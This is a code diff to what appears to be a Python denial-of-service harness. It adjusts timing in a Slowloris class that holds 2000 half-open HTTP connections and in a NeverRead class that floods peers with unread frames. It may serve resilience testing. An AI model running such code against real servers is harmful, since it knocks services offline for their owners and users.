@@ -18,7 +18,8 @@ import zlib
 from collections import Counter
 from collections.abc import Callable
 
-TICK = 0.02
+TICK = 0.002
+"""Seconds. Rates are kept evenly: many at once, and then nothing, would be another attack."""
 RESET = struct.pack("ii", 1, 0)
 MANY = 2000
 HANDSHAKE = (
@@ -87,7 +88,7 @@ class Slowloris(Attack):
         self.socks = [self.connect(b"GET / HTTP/1.1\r\nHost: ") for _ in range(MANY)]
 
     def tick(self, now: float) -> None:
-        for index in random.sample(range(MANY), MANY // 50):
+        for index in random.sample(range(MANY), MANY // 500):
             sock = self.socks[index]
             try:
                 over = sock.recv(4096) is not None
@@ -109,7 +110,7 @@ class NeverRead(Attack):
         self._message = frame(b"x" * 4000)
 
     def tick(self, now: float) -> None:
-        for index in random.sample(range(len(self.socks)), 10):
+        for index in random.sample(range(len(self.socks)), 1):
             if self.send(self.socks[index], self._message) < 0:
                 self.done["cut off"] += 1
                 self.socks[index].close()
